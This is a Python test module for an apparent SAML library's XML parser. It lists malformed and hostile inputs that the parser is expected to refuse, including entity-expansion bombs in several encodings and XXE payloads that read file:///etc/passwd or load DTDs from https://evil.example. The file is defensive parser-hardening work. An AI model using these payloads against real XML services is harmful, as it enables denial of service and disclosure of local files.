"""Attacks on the XML parser: document types, entities, encodings, size, depth, and junk."""

from collections.abc import Callable

import pytest

from passerelle.saml.xml import MAX_BYTES

from ..response_builder import SAML_NS, SAMLP_NS
from .cases import Attack, names, refuse, replaced

DECLARED = '<?xml version="1.0" encoding="{}"?>'
BOMB = (
    '<!DOCTYPE b [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">'
    '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]>'
)


def before(prolog: str, encoding: str = "utf-8", declared: str = "") -> Callable[[bytes], bytes]:
    """Put something in front of the message, and write it all in an encoding."""

    def change(message: bytes) -> bytes:
        start = DECLARED.format(declared) if declared else ""
        return (start + prolog + message.decode()).encode(encoding)

    return change


def junk(name: str, content: bytes, reason: str = "malformed_message") -> Attack:
    return Attack(name=name, reason=reason, change=lambda _: content)


def inside(name: str, added: str, reason: str = "malformed_message") -> Attack:
    """Something is put into an unsigned part of a message."""
    return Attack(name=name, reason=reason, change=replaced("<samlp:Status>", added))


def wide(pattern: str, count: int) -> str:
    return "".join(pattern.format(number) for number in range(count))


DOCTYPES = tuple(
    Attack(name=name, reason="doctype_forbidden", change=change)
    for name, change in (
        ("a document type", before("<!DOCTYPE r>")),
        ("an entity bomb", before(BOMB)),
        ("an entity bomb in UTF-16", before(BOMB, "utf-16", "UTF-16")),
        ("an entity bomb in UTF-16, little end first", before(BOMB, "utf-16-le")),
        ("an entity bomb in UTF-16, big end first", before(BOMB, "utf-16-be")),
        ("an entity bomb behind a byte order mark", before("\ufeff" + BOMB)),
        ("an entity bomb behind spaces", before(" \n\t" + BOMB)),
        ("an entity bomb behind a comment", before("<!-- <a> -->" + BOMB)),
        ("an entity bomb behind an instruction", before("<?a b?>" + BOMB)),
        ("an external document type", before('<!DOCTYPE r SYSTEM "https://evil.example/x.dtd">')),
        ("a public document type", before('<!DOCTYPE r PUBLIC "-//X" "file:///etc/passwd">')),
        (
            "an external entity",
            before('<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>'),
        ),
        (
            "a parameter entity",
            before('<!DOCTYPE r [<!ENTITY % x SYSTEM "https://evil.example/x"> %x;]>'),
        ),
        (
            "an attribute by default",
            before('<!DOCTYPE r [<!ATTLIST r ID CDATA "_assertion">]>'),
        ),
    )
)

ENCODINGS = tuple(
    Attack(name=f"{name}", reason="malformed_message", change=change)
    for name, change in (
        (
            "a document type in UTF-7",
            lambda message: (
                DECLARED.format("UTF-7").encode()
                + b"+ADwAIQ-DOCTYPE r [<!ENTITY a +ACI-b+ACI->]+AD4-"
                + message
            ),
        ),
        ("a document type in EBCDIC", before(BOMB, "cp037", "IBM037")),
        ("a document type in UTF-32", before(BOMB, "utf-32", "UTF-32")),
        ("a document type in UTF-32, little end first", before(BOMB, "utf-32-le", "UTF-32LE")),
        ("a document type in UTF-32, big end first", before(BOMB, "utf-32-be", "UTF-32BE")),
        ("ISO-8859-1", before("", "iso-8859-1", "ISO-8859-1")),
        ("Windows-1252", before("", "cp1252", "windows-1252")),
        ("Shift JIS", before("", "shift_jis", "Shift_JIS")),
        ("an encoding that does not exist", before("", "utf-8", "rubbish")),
        ("bytes that are not UTF-8", lambda message: message.replace(b"u-1", b"u-\xe9")),
        ("an overlong form of UTF-8", lambda message: message.replace(b"u-1", b"u-\xc0\xb1")),
        ("a surrogate in UTF-8", lambda message: message.replace(b"u-1", b"u-\xed\xa0\x80")),
        ("half a character of UTF-16", lambda message: message.decode().encode("utf-16")[:-1]),
        ("a lone surrogate in UTF-16", lambda message: b"\xff\xfe<\x00a\x00\x00\xd8>\x00"),
        ("a nought byte", lambda message: message.replace(b"u-1", b"u-1\x00")),
        ("a nought byte behind the end", lambda message: message + b"\x00"),
        ("a control character", lambda message: message.replace(b"u-1", b"u-\x1b")),
        ("a reference to a control character", replaced(">u-1<", ">u-&#1;<")),
        ("a reference to a surrogate", replaced(">u-1<", ">u-&#xD800;<")),
        ("a character that XML leaves out", replaced(">u-1<", ">u-\uffff<")),
    )
)

JUNK = (
    junk("nothing", b""),
    junk("white space", b" \n\t "),
    junk("text", b"hello"),
    junk("a byte order mark", b"\xef\xbb\xbf"),
    junk("a byte order mark of UTF-16", b"\xff\xfe"),
    junk("an angle bracket", b"<"),
    junk("a declaration alone", DECLARED.format("utf-8").encode()),
    junk("binary rubbish", bytes(range(256))),
    junk("JSON", b'{"a": 1}'),
    junk("HTML", b"<html><body><p>Error<br></body></html>"),
    junk("two roots", b"<a/><b/>"),
    junk("an element that is not closed", b"<a><b></a>"),
    junk("an unbound prefix", b"<samlp:Response/>"),
    junk("an attribute twice", b'<a b="1" b="2"/>'),
    junk("an attribute twice by namespace", b'<a xmlns:x="u" xmlns:y="u" x:b="1" y:b="2"/>'),
    junk("a prefix bound to nothing", b'<a xmlns:x=""/>'),
    junk("the prefix xml bound to something", b'<a xmlns:xml="urn:x"/>'),
    Attack(
        name="a message cut in the middle",
        reason="malformed_message",
        change=lambda message: message[: len(message) // 2],
    ),
    Attack(name="a message twice", reason="malformed_message", change=lambda message: message * 2),
    Attack(
        name="an entity that nobody declared",
        reason="malformed_message",
        change=replaced(">u-1<", ">u-1&admin;<"),
    ),
    Attack(
        name="an instruction in NameID",
        reason="malformed_message",
        change=replaced(">u-1<", "><?x?>u-1<"),
    ),
    Attack(
        name="an instruction in an unsigned part",
        reason="malformed_message",
        change=replaced("<samlp:Status>", "<?x?><samlp:Status>"),
    ),
    Attack(name="an instruction before", reason="malformed_message", change=before("<?x y?>")),
    Attack(
        name="an instruction behind",
        reason="malformed_message",
        change=lambda message: message + b"<?x y?>",
    ),
    Attack(
        name="a style sheet",
        reason="malformed_message",
        change=before('<?xml-stylesheet href="https://evil.example"?>'),
    ),
)

LIMITS = (
    junk("too large", b"<a>" + b"x" * MAX_BYTES + b"</a>", "message_too_large"),
    junk("deep", b"<a>" * 5000 + b"</a>" * 5000),
    inside(
        "a prefix of nothing, before a warning about another name",
        '<p:x/><x xmlns="relative"/><samlp:Status>',
    ),
    inside(
        "one attribute twice under two prefixes, before a warning about another name",
        '<x xmlns:p="urn:x" xmlns:q="urn:x" p:b="1" q:b="2"/><x xmlns="relative"/><samlp:Status>',
    ),
    inside("ninety thousand processing instructions", "<?x?>" * 90_000 + "<samlp:Status>"),
    inside("65 deep", "<x>" * 64 + "</x>" * 64 + "<samlp:Status>"),
    inside("5,000 deep in a message", "<x>" * 5000 + "</x>" * 5000 + "<samlp:Status>"),
    inside("65 attributes on an element", "<x " + wide('a{}="" ', 65) + "/><samlp:Status>"),
    inside("65 prefixes", "<x " + wide('xmlns:a{0}="urn:x" ', 65) + "/><samlp:Status>"),
    inside(
        "65 prefixes in several places",
        wide('<x xmlns:a{0}="urn:x">', 33)
        + "</x>" * 33
        + wide('<x xmlns:b{0}="urn:x"/>', 32)
        + "<samlp:Status>",
    ),
    inside("a namespace name of 251 characters", f'<x xmlns:a="urn:{"x" * 247}"/><samlp:Status>'),
    inside(
        "a default namespace of 251 characters", f"<x xmlns = 'urn:{'x' * 247}'/><samlp:Status>"
    ),
    inside(
        "a namespace name of 251 characters, of a prefix that Python would divide",
        f'<x xmlns:p\u1680q="urn:{"x" * 247}"/><samlp:Status>',
    ),
    inside(
        "65 prefixes that Python would divide",
        "<x " + wide('xmlns:a\u1680{0}="urn:x" ', 65) + "/><samlp:Status>",
    ),
    inside("100,001 elements", "<x/>" * 100_001 + "<samlp:Status>", "message_too_large"),
    inside(
        "elements that grow a thousandfold in canonical form",
        f'<y xmlns:p="urn:{"x" * 240}">' + "<p:x/>" * 40_000 + "</y><samlp:Status>",
        "message_too_large",
    ),
    inside("a name of 60,000 letters", f"<{'x' * 60000}/><samlp:Status>"),
)


def message(name: str, text: str, reason: str) -> Attack:
    return junk(name, text.encode(), reason)


ROOT = f'xmlns:samlp="{SAMLP_NS}" xmlns:saml="{SAML_NS}" ID="_x" Version="2.0"'

OTHER_MESSAGES = (
    message("LogoutRequest", f"<samlp:LogoutRequest {ROOT}/>", "wrong_message"),
    message("LogoutResponse", f"<samlp:LogoutResponse {ROOT}/>", "wrong_message"),
    message("AuthnRequest", f"<samlp:AuthnRequest {ROOT}/>", "wrong_message"),
    message(
        "ArtifactResponse around a Response",
        f"<samlp:ArtifactResponse {ROOT}><samlp:Response/></samlp:ArtifactResponse>",
        "wrong_message",
    ),
    message("an Assertion alone", f"<saml:Assertion {ROOT}/>", "wrong_message"),
    message(
        "metadata",
        '<EntityDescriptor xmlns="urn:oasis:names:tc:SAML:2.0:metadata"/>',
        "wrong_message",
    ),
    message("a Response of no namespace", '<Response ID="_x" Version="2.0"/>', "wrong_message"),
    message(
        "a Response in the namespace of assertions", f"<saml:Response {ROOT}/>", "wrong_message"
    ),
    message(
        "a Response in a namespace that looks the same",
        '<Response xmlns="urn:oasis:names:tc:SAML:2.O:protocol" ID="_x" Version="2.0"/>',
        "wrong_message",
    ),
    message(
        "SOAP around a Response",
        '<s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/"/>',
        "wrong_message",
    ),
    message(
        "WS-Federation",
        '<t:RequestSecurityTokenResponse xmlns:t="http://schemas.xmlsoap.org/ws/2005/02/trust"/>',
        "wrong_message",
    ),
    message(
        "SAML 1.1",
        '<Response xmlns="urn:oasis:names:tc:SAML:1.0:protocol" MajorVersion="1"/>',
        "unsupported_version",
    ),
    message(
        "SAML 1.1 request",
        '<Request xmlns="urn:oasis:names:tc:SAML:1.0:protocol" MajorVersion="1"/>',
        "unsupported_version",
    ),
    Attack(name="version 2.1", reason="unsupported_version", parts={"version": "2.1"}),
    Attack(
        name="version 2.0 with a space", reason="unsupported_version", parts={"version": "2.0 "}
    ),
    Attack(name="no version", reason="unsupported_version", change=replaced(' Version="2.0"', "")),
    Attack(
        name="an assertion of version 1.1",
        reason="unsupported_version",
        parts={"assertion_version": "1.1"},
    ),
    Attack(
        name="an assertion of no version",
        reason="unsupported_version",
        parts={"assertion_version": ""},
    ),
)

ATTACKS = (*DOCTYPES, *ENCODINGS, *JUNK, *LIMITS, *OTHER_MESSAGES)


@pytest.mark.parametrize("attack", ATTACKS, ids=names(ATTACKS))
def test_bad_xml_is_refused(attack: Attack):
    refuse(attack)
